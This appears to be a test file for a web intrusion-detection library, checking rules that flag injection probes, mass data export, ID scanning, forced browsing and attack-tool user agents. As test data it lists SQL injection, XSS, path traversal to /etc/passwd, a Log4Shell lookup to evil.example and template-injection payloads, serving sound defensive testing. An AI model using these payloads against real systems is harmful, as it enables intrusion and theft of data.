import { type RequestFact } from '../detection-fact.js';
import { itemOf } from '../item.js';
import { AttackToolRule } from './attack-tool.rule.js';
import { ForcedBrowsingRule } from './forced-browsing.rule.js';
import { InjectionProbeRule } from './injection-probe.rule.js';
import { MassExportRule } from './mass-export.rule.js';
import { ObjectScanningRule } from './object-scanning.rule.js';

function request(facts: Partial<RequestFact>): { readonly kind: 'request'; readonly request: RequestFact } {
  const usual: RequestFact = {
    at: 0,
    method: 'GET',
    url: '/api/v1/articles',
    route: '/api/v1/articles',
    status: 200,
    bytes: 500,
    address: '192.0.2.1',
    userAgent: 'Mozilla/5.0',
    requestId: 'request-1',
    actor: null,
    credential: null,
  };
  return { kind: 'request', request: { ...usual, ...facts } };
}

describe('a probe for injection', () => {
  const rule = new InjectionProbeRule();
  const observed = (url: string): number => rule.read(request({ url })).length;

  it.each([
    `/articles?search=%27%20OR%20%271%27=%271`,
    `/articles?id=1%20UNION%20SELECT%20password%20FROM%20users`,
    `/articles?id=1;DROP%20TABLE%20users`,
    `/articles?id=1-pg_sleep(5)`,
    `/articles?q=%3Cscript%3Ealert(1)%3C/script%3E`,
    `/articles?q=<img+src=x+onerror=alert(1)>`,
    `/../../etc/passwd`,
    `/articles?file=..%2f..%2fsecrets`,
    '/articles?q=${jndi:ldap://evil.example/a}',
    `/articles?q=%7B%7B7*7%7D%7D`,
  ])('is %s', (url) => expect(observed(url)).toBe(1));

  it.each([
    '/articles?search=it%27s%20on%20order%20and%20paid',
    '/articles?search=union%20station',
    '/articles?search=select%20a%20theme',
    '/articles?search=5%25%20off%20%26%20more',
    '/articles?ordering=-createdAt,title&page=2',
    '/articles?search=%E0%A4%A',
    '/articles?search=sleep%20well',
  ])('is not %s', (url) => expect(observed(url)).toBe(0));
});

describe('what rules read of a request', () => {
  it('is an export by what was read by an account, in KiB', () => {
    const rule = new MassExportRule();
    const actor = { id: 'id', username: 'alice' };
    expect(rule.read(request({ actor, bytes: 20_480 }))).toMatchObject([{ weight: 20, subject: { label: 'alice' } }]);
    expect(rule.read(request({ actor, bytes: 500 }))).toEqual([]);
    expect(rule.read(request({ bytes: 20_480 }))).toEqual([]);
  });

  it('is a scan of ids where a route has one, and of paths where none has', () => {
    const missing = request({ status: 404, url: '/api/v1/articles/1?x=1', route: '/api/v1/articles/:id' });
    const nowhere = request({ status: 404, url: '/.git/config', route: undefined });
    expect(new ObjectScanningRule().read(missing)).toMatchObject([{ item: itemOf('/api/v1/articles/1') }]);
    expect(new ObjectScanningRule().read(nowhere)).toEqual([]);
    expect(new ForcedBrowsingRule().read(nowhere)).toMatchObject([{ item: itemOf('/.git/config') }]);
    expect(new ForcedBrowsingRule().read(missing)).toEqual([]);
  });

  it('is a tool by its own name, and no browser', () => {
    expect(new AttackToolRule().read(request({ userAgent: 'sqlmap/1.8#stable' }))).toHaveLength(1);
    expect(new AttackToolRule().read(request({}))).toEqual([]);
  });
});
